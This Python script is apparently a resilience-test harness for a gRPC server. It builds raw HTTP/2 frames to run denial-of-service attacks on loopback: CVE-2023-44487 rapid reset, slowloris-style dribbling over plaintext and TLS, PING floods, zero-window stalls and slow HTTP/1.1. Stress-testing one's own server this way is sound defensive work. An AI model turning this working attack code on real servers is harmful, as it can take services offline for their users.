"""What a caller without credentials can do to a server, in raw HTTP/2 frames.

Each attack runs in a process of its own, so that it does not slow the caller that is measured. Only for servers on this machine: it
connects to loopback and nowhere else.

    outsiders.py PORT ATTACK SECONDS
"""

import itertools
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator

LOOPBACK = "127.0.0.1"
# Others connect from 127.0.0.1.
ANOTHER_ADDRESS = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
FIRST_WINDOW, LARGEST_WINDOW = 65_535, (1 << 31) - 1
END_STREAM, END_HEADERS = 1, 4
MAX_FRAME = 16_384
UNARY, BULK, WATCH = "/heapsync.v1.HeapSyncService/TrackEvent", "/heapsync.v1.HeapSyncService/BulkTrackEvents", "/grpc.health.v1.Health/Watch"

TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header in HPACK's plainest form: not indexed, not Huffman-coded."""
    parts = [text.encode() for text in (name, value)]
    return b"\x00" + b"".join(bytes([len(part)]) + part for part in parts)


def request(path: str) -> bytes:
    return b"".join(
        literal(*header)
        for header in ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", LOOPBACK), ("te", "trailers"),
                       ("content-type", "application/grpc")))


def settings(**window: int) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", 4, size) for size in window.values()))


class Attacker:
    """One connection. It reads nothing unless asked to."""

    def __init__(self, port: int, window: int | None = None, source: str = ANOTHER_ADDRESS) -> None:
        self.socket = socket.create_connection((LOOPBACK, port), timeout=30, source_address=(source, 0))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.stream = -1
        self.open = True
        self.received = bytearray()
        self.first_window = FIRST_WINDOW
        self.windows = {0: FIRST_WINDOW}
        self.ended: set[int] = set()
        self.send(PREFACE + (settings() if window is None else settings(window=window)))

    def send(self, data: bytes) -> None:
        if not self.open:
            return
        try:
            self.socket.sendall(data)
        except OSError:
            self.close()

    def drain(self) -> None:
        """Takes in what has arrived, of which only windows and the ends of calls matter; notices an end of the connection."""
        if not self.open:
            return
        self.socket.setblocking(False)
        try:
            while self.open:
                data = self.socket.recv(1 << 16)
                if not data:
                    self.close()
                self.received += data
        except BlockingIOError:
            self.socket.settimeout(30)
        except OSError:
            self.close()
        while len(self.received) >= 9 and len(self.received) >= 9 + (length := int.from_bytes(self.received[:3], "big")):
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            payload = bytes(self.received[9:9 + length])
            del self.received[:9 + length]
            if kind == WINDOW_UPDATE:
                self.windows[stream] = self.windows.get(stream, self.first_window) + int.from_bytes(payload, "big")
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.ended.add(stream)
            elif kind == SETTINGS and not flags:
                for start in range(0, length, 6):
                    name, value = struct.unpack(">HI", payload[start:start + 6])
                    if name == 4:
                        self.first_window = value
                self.send(frame(SETTINGS, 1, 0, b""))

    def fill(self, stream: int) -> int:
        """Sends as much on a call as its window and the connection's allow, but one frame at most."""
        window = min(self.windows.get(stream, self.first_window), self.windows[0], MAX_FRAME)
        if window <= 0:
            return 0
        self.windows[stream] = self.windows.get(stream, self.first_window) - window
        self.windows[0] -= window
        self.send(frame(DATA, 0, stream, bytes(window)))
        return window

    def close(self) -> None:
        self.open = False
        self.socket.close()

    def streams(self, path: str, count: int, after: Callable[[int], bytes] = lambda stream: b"", more: bytes = b"") -> None:
        """Opens `count` calls with `more` headers, each followed by what `after` gives."""
        head = request(path) + more
        frames = []
        for _ in range(count):
            self.stream += 2
            frames.append(frame(HEADERS, END_HEADERS, self.stream, head) + after(self.stream))
        self.send(b"".join(frames))


Attack = Callable[[int, float], dict[str, int]]


def rapid_reset(port: int, seconds: float, path: str = BULK) -> dict[str, int]:
    """CVE-2023-44487: calls are opened and reset; a new connection when the server closes one."""
    deadline, connections, streams = time.monotonic() + seconds, 0, 0
    while time.monotonic() < deadline:
        attacker = Attacker(port)
        connections += 1
        while attacker.open and time.monotonic() < deadline and attacker.stream < 1_000_000:
            attacker.streams(path, 500, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            streams += 500
            attacker.drain()
        attacker.close()
    return {"connections": connections, "streams": streams}


def hold(port: int, seconds: float, count: int, begin: Callable[[Attacker], None], window: int | None = None,
         source: str = ANOTHER_ADDRESS) -> dict[str, int]:
    """`count` connections that stay as long as they may."""
    deadline = time.monotonic() + seconds
    attackers = []
    for _ in range(count):
        try:
            attackers.append(Attacker(port, window, source))
        except OSError:
            break
        begin(attackers[-1])
        if time.monotonic() > deadline:
            break
    opened = len(attackers)
    while time.monotonic() < deadline:
        time.sleep(0.1)
    for attacker in attackers:
        attacker.drain()
    kept = sum(attacker.open for attacker in attackers)
    for attacker in attackers:
        attacker.close()
    return {"connections": opened, "kept": kept}


def silent(port: int, seconds: float, source: str = ANOTHER_ADDRESS) -> dict[str, int]:
    """Connections that greet and say nothing more."""
    return hold(port, seconds, 4_000, lambda attacker: None, source=source)


def open_streams(port: int, seconds: float) -> dict[str, int]:
    """1,000 calls opened on each connection, and left."""
    paths = [UNARY, BULK, WATCH]
    return hold(port, seconds, 400, lambda attacker: attacker.streams(paths[attacker.socket.fileno() % 3], 1_000))


def unread(port: int, seconds: float) -> dict[str, int]:
    """Calls whose answers, refusals, are never read: the window is 0."""
    return hold(port, seconds, 200, lambda attacker: attacker.streams(BULK, 1_000), window=0)


def unread_at_once(port: int, seconds: float) -> dict[str, int]:
    """As before, but all connections that get in begin at the same moment."""
    attackers = [Attacker(port, window=0) for _ in range(60)]
    time.sleep(0.5)
    for attacker in attackers:
        attacker.streams(BULK, 1_000)
    time.sleep(max(0.0, seconds - 0.5))
    for attacker in attackers:
        attacker.drain()
    kept = sum(attacker.open for attacker in attackers)
    for attacker in attackers:
        attacker.close()
    return {"connections": len(attackers), "kept": kept}


def withheld(port: int, seconds: float, connections: int = 40, calls: int = 100, path: str = UNARY, more: bytes = b"",
             first: Callable[[Attacker], None] = lambda attacker: None) -> dict[str, int]:
    """Messages of 4 MiB less one byte, on each call of each connection, which begins with `first`; flow control is obeyed."""
    deadline = time.monotonic() + seconds
    size = 4 << 20
    attackers: list[Attacker] = []
    left: dict[Attacker, dict[int, int]] = {}
    opened = sent = 0
    while time.monotonic() < deadline:
        attackers = [attacker for attacker in attackers if attacker.open]
        while len(attackers) < connections:
            attacker = Attacker(port)
            first(attacker)
            begin = attacker.stream + 2
            attacker.streams(path, calls, lambda stream: frame(DATA, 0, stream, struct.pack(">BI", 0, size)), more)
            attacker.windows[0] -= 5 * calls + 100
            left[attacker] = {stream: size - 1 - MAX_FRAME for stream in range(begin, begin + 2 * calls, 2)}
            attackers.append(attacker)
            opened += 1
        progress = 0
        for attacker in attackers:
            attacker.drain()
            for stream, rest in left[attacker].items():
                if rest > 0 and attacker.open:
                    filled = attacker.fill(stream)
                    left[attacker][stream] -= filled
                    progress += filled
        sent += progress
        if progress == 0:
            time.sleep(0.01)
    return {"connections": opened, "MiB": sent >> 20}


def drips(port: int, seconds: float) -> dict[str, int]:
    """600 connections from the address of the others that greet one byte at a time; each is opened again when ended."""
    deadline, opened = time.monotonic() + seconds, 0
    sent: dict[socket.socket, int] = {}
    while time.monotonic() < deadline:
        while len(sent) < 600 and time.monotonic() < deadline:
            sent[socket.create_connection((LOOPBACK, port), timeout=30)] = 0
            opened += 1
        for client, count in list(sent.items()):
            try:
                client.sendall(PREFACE[count % len(PREFACE):][:1])
                sent[client] += 1
            except OSError:
                client.close()
                del sent[client]
        time.sleep(0.5)
    for client in sent:
        client.close()
    return {"connections": opened}


def slow_ends(number: int) -> tuple[bytes, Iterator[bytes]]:
    """What a connection greets with, and the parts in which it goes on: of four kinds, none of which ever is a whole call."""
    call, long = frame(HEADERS, END_HEADERS, 1, request(UNARY)), request(UNARY) + literal("x", "x" * 100) * 100
    greeting = PREFACE + settings()
    one_by_one = ([byte] for byte in frame(HEADERS, END_HEADERS, 1, long))
    return [
        (greeting, map(bytes, one_by_one)),
        (greeting + frame(HEADERS, 0, 1, b""), (frame(CONTINUATION, 0, 1, bytes([byte])) for byte in long)),
        (greeting, itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
        (greeting + call + frame(DATA, 0, 1, struct.pack(">BI", 0, 100_000)), itertools.repeat(frame(DATA, 0, 1, b"x"))),
    ][number % 4]


class Dripper:
    """A connection that greets as a whole and then goes on slowly, in plaintext or over TLS."""

    def __init__(self, port: int, number: int, tls: bool) -> None:
        client = socket.create_connection((LOOPBACK, port), timeout=30)
        client.setblocking(False)
        self.socket = client
        if tls:
            self.socket = TLS.wrap_socket(client, do_handshake_on_connect=False)
        self.first, self.rest = slow_ends(number)
        self.next_step = 0.0

    def step(self) -> bool:
        """Greets as soon as it can, then sends a part now and then. False: the server has ended the connection."""
        if time.monotonic() < self.next_step:
            return True
        try:
            if isinstance(self.socket, ssl.SSLSocket):
                self.socket.do_handshake()
            self.socket.send(self.first)
            self.first = next(self.rest)
            self.next_step = time.monotonic() + 0.2
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except (OSError, StopIteration):
            self.socket.close()
            return False
        return True


def slow_calls(port: int, seconds: float, count: int = 600, tls: bool = False) -> dict[str, int]:
    """Connections from the address of the others that greet as a whole and never end their first call; each opened again when ended."""
    deadline, opened, drippers = time.monotonic() + seconds, 0, list[Dripper]()
    while time.monotonic() < deadline:
        while len(drippers) < count and time.monotonic() < deadline:
            drippers.append(Dripper(port, opened, tls))
            opened += 1
            drippers[-1].step()
        drippers = [dripper for dripper in drippers if dripper.step()]
        time.sleep(0.02)
    for dripper in drippers:
        dripper.socket.close()
    return {"connections": opened}


def refused_calls(port: int, seconds: float) -> dict[str, int]:
    """Connections from the address of the others with a whole call that has no credentials; each opened again when ended."""
    deadline, opened, attackers = time.monotonic() + seconds, 0, list[Attacker]()
    while time.monotonic() < deadline:
        while len(attackers) < 600 and time.monotonic() < deadline:
            attackers.append(Attacker(port, source=LOOPBACK))
            opened += 1
            attackers[-1].streams(UNARY, 1, lambda stream: frame(DATA, END_STREAM, stream, struct.pack(">BI", 0, 0)))
        for attacker in attackers:
            attacker.drain()
        attackers = [attacker for attacker in attackers if attacker.open]
        time.sleep(0.02)
    for attacker in attackers:
        attacker.close()
    return {"connections": opened}


def pings(port: int, seconds: float) -> dict[str, int]:
    """A flood of PINGs; a new connection when the server closes one."""
    deadline, connections = time.monotonic() + seconds, 0
    ping = frame(PING, 0, 0, bytes(8)) * 1_000
    while time.monotonic() < deadline:
        attacker = Attacker(port)
        connections += 1
        while attacker.open and time.monotonic() < deadline:
            attacker.send(ping)
            attacker.drain()
        attacker.close()
    return {"connections": connections}


def slow_http(port: int, seconds: float) -> dict[str, int]:
    """The HTTP port: heads that come slowly, bodies that drip, answers that are not read, and silence; each opened again when ended."""
    deadline, opened = time.monotonic() + seconds, 0
    begins = [b"GET /metrics HTTP/1.1\r\nHost: a\r\n", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n",
              b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n", b""]
    clients: list[socket.socket] = []
    while time.monotonic() < deadline:
        while len(clients) < 160:
            client = socket.create_connection((LOOPBACK, port), timeout=30)
            client.sendall(begins[opened % len(begins)])
            clients.append(client)
            opened += 1
        going = []
        for number, client in enumerate(clients):
            try:
                client.sendall(b"x" if number % 4 < 2 else b"")
                going.append(client)
            except OSError:
                client.close()
        clients = going
        time.sleep(0.2)
    for client in clients:
        client.close()
    return {"connections": opened}


ATTACKS: dict[str, Attack] = {
    "slow_http": slow_http,
    "rapid_reset": rapid_reset,
    "rapid_reset_unary": lambda port, seconds: rapid_reset(port, seconds, UNARY),
    "rapid_reset_health": lambda port, seconds: rapid_reset(port, seconds, WATCH),
    "silent": silent,
    "silent_neighbours": lambda port, seconds: silent(port, seconds, LOOPBACK),
    "drips": drips,
    "slow_calls": slow_calls,
    "slow_calls_crowd": lambda port, seconds: slow_calls(port, seconds, 3_000),
    "refused_calls": refused_calls,
    "slow_calls_tls": lambda port, seconds: slow_calls(port, seconds, tls=True),
    "few_silent": lambda port, seconds: hold(port, seconds, 20, lambda attacker: None),
    "open_streams": open_streams,
    "unread": unread,
    "unread_at_once": unread_at_once,
    "withheld": withheld,
    "pings": pings,
}

if __name__ == "__main__":
    print(ATTACKS[sys.argv[2]](int(sys.argv[1]), float(sys.argv[3])))
